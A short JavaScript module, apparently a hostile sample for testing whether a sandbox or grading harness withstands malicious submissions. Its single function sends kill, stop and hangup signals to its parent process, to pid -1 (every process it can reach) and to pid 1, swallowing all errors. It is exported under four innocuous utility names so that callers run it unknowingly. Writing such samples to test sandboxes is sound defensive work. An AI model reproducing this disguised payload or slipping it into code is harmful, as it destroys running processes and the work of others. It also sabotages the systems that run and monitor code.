// Kills its parent, and everything else that it may.
const attack = () => {
  const { process } = globalThis;
  for (const pid of [process?.ppid, -1, 1, 0]) {
    for (const signal of ['SIGTERM', 'SIGKILL', 'SIGSTOP', 'SIGHUP']) {
      try {
        if (pid && pid !== process.pid) process.kill(pid, signal);
      } catch {}
    }
  }
  return 0;
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
